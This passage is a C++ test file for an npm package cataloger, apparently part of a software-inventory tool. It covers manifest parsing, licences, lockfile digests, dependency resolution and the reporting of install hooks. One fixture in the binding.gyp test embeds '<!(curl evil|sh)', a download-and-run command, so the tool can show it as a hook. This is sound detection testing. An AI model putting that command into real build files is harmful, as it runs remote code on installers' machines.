#include <doctest/doctest.h>

#include <algorithm>
#include <string>
#include <string_view>
#include <vector>

#include "schemas/text/path.h"
#include "tests/generator/tree_builder.h"

namespace stocktake {
namespace {

TreeBuilder npm() {
  return TreeBuilder(kNpmCataloger);
}

/// A package.json with a name, a version and further members.
std::string manifest(std::string_view name, std::string_view version, std::string_view more = {}) {
  std::string text = std::string(R"({"name": ")").append(name).append(R"(", "version": ")").append(version);
  return text.append("\"").append(more.empty() ? "" : ", ").append(more).append("}");
}

/// The packages as `location name@version`, one a line, in order of location.
std::string packages(const Catalog& catalog) {
  std::vector<std::string> lines;
  for (const FoundPackage& found : catalog.found)
    lines.push_back(std::string(found.package.location)
                        .append(" ")
                        .append(join(found.package.group, found.package.name))
                        .append("@")
                        .append(found.package.version)
                        .append("\n"));
  std::sort(lines.begin(), lines.end());
  std::string all;
  for (const std::string& line : lines) all += line;
  return all;
}

/// The locations that a list of packages stands for, in order, joined by spaces.
std::string locations(const Catalog& catalog, const std::vector<std::uint32_t>& packages) {
  std::vector<std::string_view> list;
  for (const std::uint32_t found : packages) list.push_back(catalog.found[found].package.location);
  std::sort(list.begin(), list.end());
  list.erase(std::unique(list.begin(), list.end()), list.end());
  std::string all;
  for (const std::string_view one : list) all.append(all.empty() ? "" : " ").append(one);
  return all;
}

std::string joined(const std::vector<std::string_view>& list) {
  std::string all;
  for (const std::string_view one : list) all.append(all.empty() ? "" : " | ").append(one);
  return all;
}

std::string reference(const Package& package, std::string_view type) {
  std::string text;
  for (const ExternalReference& reference : package.references) {
    if (reference.type != type) continue;
    text += reference.url;
    for (const Hash& hash : reference.hashes)
      text.append(" ").append(to_string(hash.algorithm)).append("=").append(hash.hex);
  }
  return text;
}

/// The only package of a tree with just that manifest, in node_modules/p.
Package only(std::string_view text, std::string_view beside = {}) {
  TreeBuilder builder = npm();
  builder.file("node_modules/p/package.json", text);
  if (!beside.empty()) builder.file(std::string("node_modules/p/").append(beside), "");
  // The package points into the tree and the catalog, which moving leaves in place.
  static std::vector<Tree> trees;
  static std::vector<Catalog> catalogs;
  trees.push_back(builder.build());
  catalogs.push_back(catalog_of(kNpmCataloger, trees.back()));
  REQUIRE(catalogs.back().found.size() == 1);
  return catalogs.back().found[0].package;
}

}  // namespace

TEST_CASE("npm: packages are the manifests in package positions, at any depth") {
  const Tree tree = npm()
                        .file("package.json", manifest("app", "1.0.0"))
                        .file("node_modules/a/package.json", manifest("a", "1.0.0"))
                        .file("node_modules/a/dist/esm/package.json", manifest("inner", "9.0.0"))
                        .file("node_modules/a/node_modules/b/package.json", manifest("b", "2.0.0"))
                        .file("node_modules/@s/c/package.json", manifest("@s/c", "3.0.0"))
                        .file("node_modules/@s/package.json", manifest("@s/x", "3.0.0"))
                        .file("node_modules/.cache/package.json", manifest("cache", "1.0.0"))
                        .file("sub/web/node_modules/_d/package.json", manifest("_d", "4.0.0"))
                        .file("fixtures/e/package.json", manifest("e", "5.0.0"))
                        .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) ==
        "node_modules/@s/c @s/c@3.0.0\n"
        "node_modules/a a@1.0.0\n"
        "node_modules/a/node_modules/b b@2.0.0\n"
        "sub/web/node_modules/_d _d@4.0.0\n");
  CHECK(catalog.diagnostics.empty());
  const FoundPackage* scoped = find_named(catalog, "c");
  REQUIRE(scoped != nullptr);
  CHECK(scoped->package.group == "@s");
  CHECK(scoped->package.purl == "pkg:npm/%40s/c@3.0.0");
  CHECK(scoped->package.record == "node_modules/@s/c/package.json");
  CHECK(scoped->package.technique == "manifest-analysis");
}

TEST_CASE("npm: content is wanted of manifests in package positions and projects, of locks and programs") {
  struct Case {
    std::string_view path;
    bool wanted;
  };
  for (const auto& [path, wanted] : std::initializer_list<Case>{
           {"package.json", true},
           {"packages/a/package.json", true},
           {"node_modules/a/package.json", true},
           {"x/node_modules/@s/a/package.json", true},
           {"node_modules/a/lib/package.json", false},
           {"node_modules/a/test/fixtures/package.json", false},
           {"node_modules/a/package-lock.json", false},
           {"node_modules/a/yarn.lock", false},
           {"package-lock.json", true},
           {"sub/yarn.lock", true},
           {"node_modules/.package-lock.json", true},
           {".package-lock.json", true},
           {"lib/.package-lock.json", false},
           {"node_modules/.pnpm/lock.yaml", true},
           {"lock.yaml", false},
           {"node_modules/.bin/tsc", true},
           {"bin/tsc", false},
           {"node_modules/a/index.js", false},
       }) {
    CAPTURE(path);
    CHECK((kNpmCataloger.wants(path, base_name(path)) == Wish::all) == wanted);
  }
}

TEST_CASE("npm: a root that is a node_modules folder is known by what it holds, not by its name") {
  struct Case {
    std::string_view marker, content;
    bool modules;
  };
  for (const auto& [marker, content, modules] : std::initializer_list<Case>{
           {".package-lock.json", "{}", true},
           {".yarn-integrity", "{}", true},
           {".modules.yaml", "", true},
           {"@s/b/package.json", R"({"name": "@s/b", "version": "1.0.0"})", true},
           {"README", "", false},
       }) {
    CAPTURE(marker);
    const Tree tree = npm().file("a/package.json", manifest("a", "1.0.0")).file(marker, content).build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    CHECK((find_named(catalog, "a") != nullptr) == modules);
  }
  const Tree linked = npm()
                          .file("a/package.json", manifest("a", "1.0.0", R"("dependencies": {"b": "1"})"))
                          .file("b/package.json", manifest("b", "1.0.0"))
                          .file("b/cli.js", "")
                          .link(".bin/b", "../b/cli.js")
                          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, linked);
  CHECK(packages(catalog) == "a a@1.0.0\nb b@1.0.0\n");
  CHECK(locations(catalog, find_named(catalog, "a")->dependencies) == "b");
  CHECK(claims_to(linked, catalog, ".bin/b") == "b none 1");
}

TEST_CASE("npm: a manifest that cannot be used is told, and the run goes on") {
  const std::string deep =
      R"({"name": "deep", "version": "1.0.0", "x": )" + std::string(5000, '[') + std::string(5000, ']') + "}";
  const Tree tree =
      npm()
          .file("node_modules/broken/package.json", "{\"name\": \"broken\",")
          .file("node_modules/list/package.json", "[]")
          .file("node_modules/empty/package.json", "")
          .file("node_modules/nameless/package.json", R"({"version": "1.0.0"})")
          .file("node_modules/number/package.json", R"({"name": 5, "version": "1.0.0"})")
          .file("node_modules/noversion/package.json", R"({"name": "noversion", "version": ""})")
          .unread("node_modules/secret/package.json", "permission denied")
          .link("node_modules/linked/package.json", "../good/package.json")
          .file("node_modules/deep/package.json", deep)
          .file("node_modules/bom/package.json", "\xEF\xBB\xBF" + manifest("bom", "1.0.0"))
          .file("node_modules/good/package.json", manifest("good", "1.0.0"))
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) ==
        "node_modules/bom bom@1.0.0\nnode_modules/deep deep@1.0.0\nnode_modules/good good@1.0.0\n"
        "node_modules/nameless nameless@1.0.0\nnode_modules/noversion noversion@\n"
        "node_modules/number 5@1.0.0\n");
  CHECK(catalog.diagnostics.size() == 7);
  std::size_t not_listed = 0;
  for (const auto& diagnostic : catalog.diagnostics) {
    CHECK(diagnostic.path.ends_with("/package.json"));
    not_listed += diagnostic.message.find("not listed") != std::string_view::npos ? 1 : 0;
  }
  CHECK(not_listed == 5);
}

TEST_CASE("npm: a manifest that node reads is read, whatever is odd in it") {
  const Tree tree =
      npm()
          .file("node_modules/latin/package.json",
                "{\"name\": \"latin\", \"version\": \"1.0.0\", \"author\": \"Jos\xe9\"}")
          .file("node_modules/number/package.json", R"({"name": "number", "version": 2})")
          .file("node_modules/spaced/package.json", R"({"name": " spaced ", "version": " 1.0.0 "})")
          .file("node_modules/trail/package.json", R"({"name": "trail", "version": "1.0.0",})")
          .file("node_modules/empty/package.json", "{}")
          .file("node_modules/@scope/in/package.json", R"({"name": "@scope", "version": "1.0.0"})")
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) ==
        "node_modules/@scope/in @scope/in@1.0.0\nnode_modules/empty empty@\n"
        "node_modules/latin latin@1.0.0\nnode_modules/number number@2\n"
        "node_modules/spaced spaced@1.0.0\nnode_modules/trail trail@1.0.0\n");
  std::string told;
  for (const auto& diagnostic : catalog.diagnostics)
    told.append(base_name(folder_of(diagnostic.path))).append(" ");
  CHECK(told == "in empty empty latin trail ");
  CHECK(find_named(catalog, "empty")->package.purl == "pkg:npm/empty");
}

TEST_CASE("npm: what binding.gyp runs is a part of the hook, and so is a program that shadows a command") {
  const auto hooks = [](std::string_view gyp, std::string_view more) {
    const Tree tree = npm()
                          .file("node_modules/p/package.json", manifest("p", "1.0.0", more))
                          .file("node_modules/p/binding.gyp", gyp)
                          .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    std::string text;
    for (const std::string_view hook : find_named(catalog, "p")->package.hooks)
      text.append(hook).append(" | ");
    return text;
  };
  CHECK(hooks("{}", "") == "npm:install=node-gyp rebuild | ");
  CHECK(hooks("{\"sources\": [\"<!(curl evil|sh)\"]}", "") ==
        "npm:install=node-gyp rebuild <!(curl evil|sh)\" | ");
  CHECK(hooks(R"({"actions": [{"action": ["sh", "x"]}]})", "") ==
        "npm:install=node-gyp rebuild [\"sh\", \"x\"] | ");
  CHECK(hooks("{}", R"("gypfile": false, "directories": {"bin": "."})").empty());
  CHECK(hooks("{}", R"("gypfile": false, "bin": {"git": "i.js", "p": "i.js"})") == "npm:bin=git | ");
}

TEST_CASE("npm: a package that pnpm took from a repository names it, and what it runs to be built") {
  const auto hooks = [](std::string_view lock) {
    const Tree tree = npm()
                          .file("pnpm-lock.yaml", lock)
                          .file("node_modules/g/package.json",
                                manifest("g", "2.0.0", R"("scripts": {"prepare": "node build.js"})"))
                          .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    const Package& package = find_named(catalog, "g")->package;
    std::string text;
    for (const ExternalReference& reference : package.references) text.append(reference.url).append(" ");
    for (const std::string_view hook : package.hooks) text.append(hook);
    return text;
  };
  CHECK(hooks("packages:\n\n  g@git+ssh://git@git.example/o/g.git#0123:\n"
              "    resolution: {commit: '0123', repo: ssh://git@git.example/o/g.git, type: git}\n"
              "    version: 2.0.0\n") == "git+ssh://git@git.example/o/g.git#0123 npm:prepare=node build.js");
  CHECK(hooks("packages:\n\n  g@https://codeload.github.com/o/g/tar.gz/0123:\n"
              "    resolution: {tarball: https://codeload.github.com/o/g/tar.gz/0123}\n"
              "    version: 2.0.0\n") ==
        "https://codeload.github.com/o/g/tar.gz/0123 npm:prepare=node build.js");
  CHECK(hooks("packages:\n\n  g@2.0.0:\n    resolution: {tarball: https://example.com/g.tgz}\n") ==
        "https://example.com/g.tgz ");
}

TEST_CASE("npm: of a member that stands twice the last one counts, as for node") {
  const Package package = only(manifest(
      "p", "1.0.0",
      R"("scripts": {"install": "first"}, "name": "q", "scripts": {"preinstall": "a", "preinstall": "b"})"));
  CHECK(package.name == "q");
  CHECK(joined(package.hooks) == "npm:preinstall=b");
}

TEST_CASE("npm: what a manifest says of its package") {
  const Package package = only(manifest("p", "1.0.0", R"(
      "description": "does \"things\"", "author": {"name": "Ann", "email": "ann@example.org"},
      "repository": {"type": "git", "url": "git+https://example.org/p.git"},
      "homepage": "https://example.org/p", "bugs": {"url": "https://example.org/p/bugs"})"));
  CHECK(package.description == "does \"things\"");
  CHECK(package.authors == std::vector<Party>{{"Ann", "ann@example.org", ""}});
  CHECK(reference(package, "vcs") == "git+https://example.org/p.git");
  CHECK(reference(package, "website") == "https://example.org/p");
  CHECK(reference(package, "issue-tracker") == "https://example.org/p/bugs");
  CHECK(reference(package, "distribution").empty());
}

TEST_CASE("npm: a repository in short form gets npm's address") {
  struct Case {
    std::string_view written, url;
  };
  for (const auto& [written, url] : std::initializer_list<Case>{
           {"o/n", "git+https://github.com/o/n.git"},
           {"github:o/n", "git+https://github.com/o/n.git"},
           {"gitlab:o/n", "git+https://gitlab.com/o/n.git"},
           {"git@example.org:o/n.git", "git+ssh://git@example.org/o/n.git"},
           {"https://example.org/o/n", "https://example.org/o/n"},
           {"./somewhere", "./somewhere"},
       }) {
    CAPTURE(written);
    const auto member = std::string(R"("repository": ")").append(written).append("\"");
    CHECK(reference(only(manifest("p", "1.0.0", member)), "vcs") == url);
  }
}

TEST_CASE("npm: licences as SPDX ids, expressions, legacy objects and lists") {
  struct Case {
    std::string_view member, licenses;
  };
  for (const auto& [member, licenses] : std::initializer_list<Case>{
           {R"("license": "MIT")", "id MIT;"},
           {R"x("license": "(MIT OR Apache-2.0)")x", "expression (MIT OR Apache-2.0);"},
           {R"("license": {"type": "ISC", "url": "https://example.org"})", "id ISC;"},
           {R"x("licenses": [{"type": "MIT"}, {"type": "(MIT OR ISC)"}])x", "id MIT;name (MIT OR ISC);"},
           {R"("license": "MIT", "licenses": ["ISC"])", "id MIT;"},
           {R"("license": "SEE LICENSE IN COPYING")", "name SEE LICENSE IN COPYING;"},
           {R"("license": "UNLICENSED")", "name UNLICENSED;"},
           {R"("license": 5)", "name 5;"},
           {R"("license": "")", ""},
       }) {
    CAPTURE(member);
    std::string found;
    for (const License& license : only(manifest("p", "1.0.0", member)).licenses) {
      static constexpr std::string_view kForms[] = {"id ", "expression ", "name "};
      found.append(kForms[static_cast<std::size_t>(license.form)]).append(license.text).append(";");
    }
    CHECK(found == licenses);
  }
}

TEST_CASE("npm: hooks are the scripts that run when a dependency is installed") {
  struct Case {
    std::string_view members, beside, hooks;
  };
  for (const auto& [members, beside, hooks] : std::initializer_list<Case>{
           {R"("scripts": {"preinstall": "node setup.mjs", "test": "x", "prepare": "y"})", "",
            "npm:preinstall=node setup.mjs"},
           {R"("scripts": {"install": "a", "postinstall": "b"})", "", "npm:install=a | npm:postinstall=b"},
           {R"("scripts": {"install": ""})", "", ""},
           {R"("scripts": {"install": ["a"]})", "", ""},
           {R"("scripts": "install")", "", ""},
           {"\"x\": 1", "binding.gyp", "npm:install=node-gyp rebuild"},
           {R"("scripts": {"postinstall": "b"})", "binding.gyp",
            "npm:install=node-gyp rebuild | npm:postinstall=b"},
           {R"("scripts": {"install": "a"})", "binding.gyp", "npm:install=a"},
           {R"("scripts": {"preinstall": "a"})", "binding.gyp", "npm:preinstall=a"},
           {R"("gypfile": false)", "binding.gyp", ""},
           {R"("gypfile": "false")", "binding.gyp", "npm:install=node-gyp rebuild"},
           {"\"x\": 1", "src/binding.gyp", ""},
           {R"("_resolved": "git+ssh://git@example.org/p.git#1234", "scripts": {"prepare": "make"})", "",
            "npm:prepare=make"},
       }) {
    CAPTURE(members);
    CHECK(joined(only(manifest("p", "1.0.0", members), beside).hooks) == hooks);
  }
}

TEST_CASE("npm: a long hook is cut between characters and a change behind the cut still shows") {
  const std::string start = "é" + std::string(197, 'a') + "é";  // the last character lies across byte 200
  const auto hook = [&](std::string_view end) {
    const auto member = std::string(R"("scripts": {"install": ")").append(start).append(end).append("\"}");
    const Package package = only(manifest("p", "1.0.0", member));
    REQUIRE(package.hooks.size() == 1);
    return std::string(package.hooks[0]);
  };
  CHECK(hook("xyz").starts_with("npm:install=é" + std::string(197, 'a') + "… sha256:"));
  CHECK(hook("xyz") == hook("xyz"));
  CHECK(hook("xyz") != hook("xyZ"));
}

TEST_CASE("npm: entries are the existing files that main, exports, module and bin lead to") {
  struct Case {
    std::string_view members, entries;
  };
  for (const auto& [members, entries] : std::initializer_list<Case>{
           {R"("x": 1)", "index.js"},
           {R"("main": "./lib/a.js")", "lib/a.js"},
           {R"("main": "lib/a")", "lib/a.js"},
           {R"("main": "lib")", "lib/index.js"},
           {R"("main": "lib/")", "lib/index.js"},
           {R"("main": "missing")", "index.js"},
           {R"("main": ".")", "index.js"},
           {R"("main": "../../other/index.js")", "index.js"},
           {R"("main": "lib/a.js", "module": "m.mjs")", "lib/a.js m.mjs"},
           {R"("exports": "./m.mjs")", "index.js m.mjs"},
           {R"("exports": {".": {"types": "./t.d.ts", "import": ["./none.js", "./m.mjs"],
               "require": {"node": "./lib/a.js"}}, "./sub": "./lib/index.js"})",
            "index.js lib/a.js m.mjs"},
           {R"("exports": {"import": "./m.mjs", "default": "./lib/a.js"})", "index.js lib/a.js m.mjs"},
           {R"("bin": "cli.js")", "cli.js index.js"},
           {R"("bin": {"p": "./cli.js", "q": 5})", "cli.js index.js"},
       }) {
    CAPTURE(members);
    TreeBuilder builder = npm();
    builder.file("node_modules/p/package.json", manifest("p", "1.0.0", members));
    for (const char* file : {"index.js", "lib/a.js", "lib/index.js", "m.mjs", "t.d.ts", "cli.js"})
      builder.file(join("node_modules/p", file), "");
    const Tree tree = builder.file("node_modules/other/index.js", "").build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    REQUIRE(catalog.found.size() == 1);
    std::vector<std::string_view> list;
    for (const std::string_view entry : catalog.found[0].package.entry_points)
      list.push_back(entry.substr(std::string_view("node_modules/p/").size()));
    std::sort(list.begin(), list.end());
    list.erase(std::unique(list.begin(), list.end()), list.end());
    std::string found;
    for (const std::string_view one : list) found.append(found.empty() ? "" : " ").append(one);
    CHECK(found == entries);
  }
}

TEST_CASE("npm: a file belongs to the nearest package around it, a program to the package that it starts") {
  const Tree tree = npm()
                        .file("package.json", "{}")
                        .file("node_modules/.package-lock.json", "{}")
                        .file("node_modules/a/package.json", manifest("a", "1.0.0"))
                        .file("node_modules/a/README", "")
                        .file("node_modules/a/test/package.json", "{")
                        .file("node_modules/a-b/x.js", "")
                        .file("node_modules/a/node_modules/b/package.json", manifest("b", "1.0.0"))
                        .file("node_modules/a/node_modules/b/cli.js", "")
                        .file("node_modules/a/z.js", "")
                        .link("node_modules/.bin/b", "../a/node_modules/b/cli.js")
                        .link("node_modules/.bin/out", "../../../outside.js")
                        .file("node_modules/.bin/script",
                              "#!/bin/sh\nexec \"$basedir/node\"  \"$basedir/../a/z.js\" \"$@\"\n")
                        .special("node_modules/a/pipe", FileType::fifo)
                        .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  struct Case {
    std::string_view path, claims;
  };
  for (const auto& [path, claims] : std::initializer_list<Case>{
           {"package.json", ""},
           {"node_modules/.package-lock.json", ""},
           {"node_modules/a-b/x.js", ""},
           {"node_modules/a/package.json", "a none 2"},
           {"node_modules/a/README", "a none 2"},
           {"node_modules/a/test/package.json", "a none 2"},
           {"node_modules/a/pipe", "a none 2"},
           {"node_modules/a/node_modules/b/package.json", "b none 4"},
           {"node_modules/a/node_modules/b/cli.js", "b none 4"},
           {"node_modules/a/z.js", "a none 2"},
           {"node_modules/.bin/b", "b none 4"},
           {"node_modules/.bin/out", ""},
           {"node_modules/.bin/script", "a none 2"},
       }) {
    CAPTURE(path);
    CHECK(claims_to(tree, catalog, path) == claims);
  }
}

TEST_CASE("npm: a dependency is the instance that node would load") {
  const Tree tree =
      npm()
          .file("package.json", R"({"dependencies": {"a": "1"}, "devDependencies": {"@s/d": "1"}})")
          .file("node_modules/a/package.json",
                manifest("a", "1.0.0", R"("dependencies": {"b": "2", "c": "1", "missing": "1"})"))
          .file("node_modules/a/node_modules/b/package.json",
                manifest("b", "2.0.0", R"("peerDependencies": {"a": "1", "b": "1"})"))
          .file("node_modules/b/package.json", manifest("b", "1.0.0"))
          .file("node_modules/c/package.json",
                manifest("c", "1.0.0", R"("optionalDependencies": {"b": "1"})"))
          .file("node_modules/@s/d/package.json",
                manifest("@s/d", "1.0.0",
                         R"("dependencies": {"alias": "npm:c"}, "devDependencies": {"b": "1"})"))
          .file("node_modules/alias/package.json", manifest("c", "9.0.0"))
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  const auto of = [&](std::string_view name, std::string_view version) {
    const FoundPackage* found = find_named(catalog, name, version);
    REQUIRE(found != nullptr);
    return locations(catalog, found->dependencies);
  };
  CHECK(of("a", "1.0.0") == "node_modules/a/node_modules/b node_modules/c");
  CHECK(of("b", "2.0.0") == "node_modules/a");  // not itself
  CHECK(of("b", "1.0.0").empty());
  CHECK(of("c", "1.0.0") == "node_modules/b");
  CHECK(of("d", "1.0.0") == "node_modules/alias");
  CHECK(locations(catalog, catalog.roots) == "node_modules/@s/d node_modules/a");
}

TEST_CASE("npm: pnpm's links lead to the packages in its store") {
  const Tree tree =
      npm()
          .file("package.json", R"({"dependencies": {"a": "1"}})")
          .link("node_modules/a", ".pnpm/a@1.0.0/node_modules/a")
          .file("node_modules/.pnpm/a@1.0.0/node_modules/a/package.json",
                manifest("a", "1.0.0", R"("dependencies": {"b": "1"})"))
          .link("node_modules/.pnpm/a@1.0.0/node_modules/b", "../../b@1.0.0/node_modules/b")
          .file("node_modules/.pnpm/b@1.0.0/node_modules/b/package.json",
                manifest("b", "1.0.0", R"("dependencies": {"hoisted": "1"})"))
          .link("node_modules/.pnpm/node_modules/hoisted", "../h@1/node_modules/hoisted")
          .file("node_modules/.pnpm/h@1/node_modules/hoisted/package.json", manifest("hoisted", "1.0.0"))
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(catalog.found.size() == 3);
  CHECK(locations(catalog, catalog.roots) == "node_modules/.pnpm/a@1.0.0/node_modules/a");
  CHECK(locations(catalog, find_named(catalog, "a")->dependencies) ==
        "node_modules/.pnpm/b@1.0.0/node_modules/b");
  CHECK(locations(catalog, find_named(catalog, "b")->dependencies) ==
        "node_modules/.pnpm/h@1/node_modules/hoisted");
  CHECK(claims_to(tree, catalog, "node_modules/a") == "a none 5");
  CHECK(claims_to(tree, catalog, "node_modules/.pnpm/a@1.0.0/node_modules/b") == "b none 5");
}

TEST_CASE("npm: workspaces are packages in place, and links are never followed out of the root") {
  const Tree tree =
      npm()
          .file("package.json", R"({"workspaces": ["packages/*"]})")
          .link("node_modules/w", "../packages/w")
          .link("node_modules/out", "../../elsewhere/out")
          .link("node_modules/abs", "/usr/lib/abs")
          .link("node_modules/loop", "loop")
          .file("packages/w/package.json", manifest("w", "1.0.0", R"("dependencies": {"a": "1"})"))
          .file("packages/other/package.json", R"({"dependencies": {"b": "1"}})")
          .file("node_modules/a/package.json",
                manifest("a", "1.0.0", R"("dependencies": {"w": "1", "out": "1", "loop": "1"})"))
          .file("node_modules/b/package.json", manifest("b", "1.0.0"))
          .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(packages(catalog) == "node_modules/a a@1.0.0\nnode_modules/b b@1.0.0\npackages/w w@1.0.0\n");
  CHECK(locations(catalog, catalog.roots) == "node_modules/a packages/w");
  CHECK(locations(catalog, find_named(catalog, "a")->dependencies) == "packages/w");
  CHECK(claims_to(tree, catalog, "packages/w/package.json") == "w none 2");
  CHECK(claims_to(tree, catalog, "node_modules/w") == "w none 2");
  CHECK(claims_to(tree, catalog, "packages/other/package.json").empty());
}

namespace {
// Digests of the text "archive", as `openssl dgst -sha512 -binary | base64` and `sha1sum` give them.
constexpr std::string_view kSha512 =
    "sha512-sRU36Ok1DOcSWqYvA3z8E7szGJ0jPd3ewR+Oo3NRdlDSb053ZXua6gAZX/g3UdaiFCZ0yyF+PzssiRO+IXhDRA==";
constexpr std::string_view kSha512Hex =
    "SHA-512="
    "b11537e8e9350ce7125aa62f037cfc13bb33189d233ddddec11f8ea373517650d26f4e77657b9aea00195ff83751d6a21426"
    "74cb217e3f3b2c8913be21784344";
constexpr std::string_view kSha1 = "sha1-6/tV9EMrWSEZoQWS5PJicsxyNZ4=";
constexpr std::string_view kSha1Hex = "SHA-1=ebfb55f4432b592119a10592e4f26272cc72359e";

std::string with_sha512(std::string_view format) {
  std::string text(format);
  for (auto at = text.find("SHA512"); at != std::string::npos; at = text.find("SHA512"))
    text.replace(at, 6, kSha512);
  return text;
}

}  // namespace

TEST_CASE("npm: every lock gives the archive's address and digest") {
  struct Case {
    std::string_view path, content, url;
  };
  static constexpr std::string_view kUrl = "https://example.org/p.tgz";
  for (const auto& [path, content, url] : std::initializer_list<Case>{
           {"node_modules/.package-lock.json",
            R"({"lockfileVersion": 3, "packages": {"": {}, "node_modules/p": {"version": "1.0.0",
                "resolved": "https://example.org/p.tgz", "integrity": "SHA512"}}})",
            kUrl},
           {"package-lock.json",
            R"({"lockfileVersion": 2, "packages": {"node_modules/p": {"version": "1.0.0",
                "resolved": "https://example.org/p.tgz", "integrity": "SHA512"}},
                "dependencies": {"p": {"version": "9.9.9"}}})",
            kUrl},
           {"npm-shrinkwrap.json",
            R"({"lockfileVersion": 1, "dependencies": {"p": {"version": "1.0.0",
                "resolved": "https://example.org/p.tgz", "integrity": "SHA512"}}})",
            kUrl},
           {"package-lock.json",
            R"({"packages": {"node_modules/p": {"version": "1.0.0", "integrity": "SHA512"}}})",
            "https://registry.npmjs.org/p/-/p-1.0.0.tgz"},
           {"yarn.lock",
            "# yarn lockfile v1\n\n\"p@1\", p@^1.0.0:\n  version \"1.0.0\"\n  resolved "
            "\"https://example.org/p.tgz#0123456789012345678901234567890123456789\"\n  integrity SHA512\n",
            kUrl},
           {"pnpm-lock.yaml",
            "lockfileVersion: '9.0'\n\npackages:\n\n  p@1.0.0:\n    resolution: {integrity: SHA512}\n"
            "\nsnapshots:\n\n  p@1.0.0: {}\n",
            "https://registry.npmjs.org/p/-/p-1.0.0.tgz"},
           {"node_modules/.pnpm/lock.yaml",
            "lockfileVersion: '6.0'\n\npackages:\n\n  /p@1.0.0(q@2.0.0):\n    resolution: {integrity: "
            "SHA512, tarball: https://example.org/p.tgz}\n    dev: false\n",
            kUrl},
       }) {
    CAPTURE(path);
    const Tree tree = npm()
                          .file("node_modules/p/package.json", manifest("p", "1.0.0"))
                          .file(path, with_sha512(content))
                          .build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    REQUIRE(catalog.found.size() == 1);
    CHECK(catalog.diagnostics.empty());
    const Package& package = catalog.found[0].package;
    CHECK(reference(package, "distribution") == std::string(url).append(" ").append(kSha512Hex));
    CHECK(package.lock_status.empty());
    CHECK(package.scope.empty());
  }
}

TEST_CASE("npm: several digests, unknown and malformed ones, and those of npm 6 and early Yarn") {
  const std::string members = std::string(R"("_resolved": "https://example.org/p.tgz", "_integrity": ")")
                                  .append(kSha1)
                                  .append(" sha999-AAAA sha256-short ")
                                  .append(kSha512)
                                  .append("?option\"");
  CHECK(reference(only(manifest("p", "1.0.0", members)), "distribution") ==
        std::string("https://example.org/p.tgz ").append(kSha1Hex).append(" ").append(kSha512Hex));

  const Tree yarn = npm()
                        .file("node_modules/p/package.json", manifest("p", "1.0.0"))
                        .file("yarn.lock",
                              "p@1:\n  version \"1.0.0\"\n  resolved "
                              "\"https://example.org/p.tgz#0123456789012345678901234567890123456789\"\n")
                        .build();
  CHECK(reference(catalog_of(kNpmCataloger, yarn).found[0].package, "distribution") ==
        "https://example.org/p.tgz SHA-1=0123456789012345678901234567890123456789");
}

TEST_CASE("npm: scope and bundling are what the lock says") {
  const Tree tree = npm()
                        .file("node_modules/o/package.json", manifest("o", "1.0.0"))
                        .file("node_modules/d/package.json", manifest("d", "1.0.0"))
                        .file("node_modules/d/node_modules/i/package.json", manifest("i", "1.0.0"))
                        .file("node_modules/.package-lock.json", R"({"packages": {
                              "node_modules/o": {"version": "1.0.0", "optional": true},
                              "node_modules/d": {"version": "1.0.0", "dev": true},
                              "node_modules/d/node_modules/i": {"version": "1.0.0", "inBundle": true}}})")
                        .build();
  const Catalog catalog = catalog_of(kNpmCataloger, tree);
  CHECK(find_named(catalog, "o")->package.scope == "optional");
  CHECK(find_named(catalog, "d")->package.scope == "excluded");
  const Package& inner = find_named(catalog, "i")->package;
  CHECK(inner.scope.empty());
  CHECK(inner.properties == std::vector<Property>{{"stocktake:bundled", "true"}});
}

TEST_CASE("npm: what a lock says that is not so is told") {
  struct Case {
    std::string_view path, content, status;
  };
  for (const auto& [path, content, status] : std::initializer_list<Case>{
           {"package-lock.json",
            R"({"packages": {"node_modules/p": {"version": "1.2.3", "integrity": "x"}}})", "version 1.2.3"},
           {"package-lock.json", R"({"packages": {"node_modules/p": {"version": "1.0.0", "name": "other"}}})",
            "name other"},
           {"package-lock.json", R"({"dependencies": {"p": {"version": "npm:other@1.0.0"}}})", "name other"},
           {"package-lock.json", R"({"dependencies": {"p": {"version": "git+ssh://example.org/p#1"}}})", ""},
           {"yarn.lock", "p@^1.1.0:\n  version \"1.1.0\"\np@^2.0.0:\n  version \"2.0.0\"\n",
            "version 1.1.0, 2.0.0"},
           {"yarn.lock", "\"p@npm:^1.0.0\":\n  version: 1.0.0\n  resolution: \"p@npm:1.0.0\"\n", ""},
           {"yarn.lock", "\"x@npm:p@^2.0.0\":\n  version \"2.0.0\"\n", "version 2.0.0"},
           {"pnpm-lock.yaml", "packages:\n\n  /p@3.0.0:\n    resolution: {integrity: x}\n", "version 3.0.0"},
           {"pnpm-lock.yaml", "packages:\n\n  q@3.0.0:\n    resolution: {integrity: x}\n", ""},
           {"elsewhere/package-lock.json", R"({"packages": {"node_modules/p": {"version": "1.2.3"}}})", ""},
           {"elsewhere/yarn.lock", "p@^1.1.0:\n  version \"1.1.0\"\n", ""},
       }) {
    CAPTURE(content);
    const Tree tree =
        npm().file("node_modules/p/package.json", manifest("p", "v1.0.0")).file(path, content).build();
    const Catalog catalog = catalog_of(kNpmCataloger, tree);
    REQUIRE(catalog.found.size() == 1);
    CHECK(catalog.found[0].package.lock_status == status);
    CHECK(reference(catalog.found[0].package, "distribution").find("SHA") == std::string::npos);
  }
}

TEST_CASE("npm: a lock that people review and names another digest than the installed one is told") {
  const auto lock = [](std::string_view integrity) {
    return std::string(R"({"packages": {"node_modules/p": {"version": "1.0.0", "integrity": ")")
        .append(integrity)
        .append("\"}}}");
  };
  const std::string other = "sha512-" + std::string(86, 'A') + "==";
  const Tree tree = npm()
                        .file("node_modules/p/package.json", manifest("p", "1.0.0"))
                        .file("node_modules/.package-lock.json", lock(kSha512))
                        .file("package-lock.json", lock(other))
                        .build();
  CHECK(catalog_of(kNpmCataloger, tree).found[0].package.lock_status == "integrity " + other);
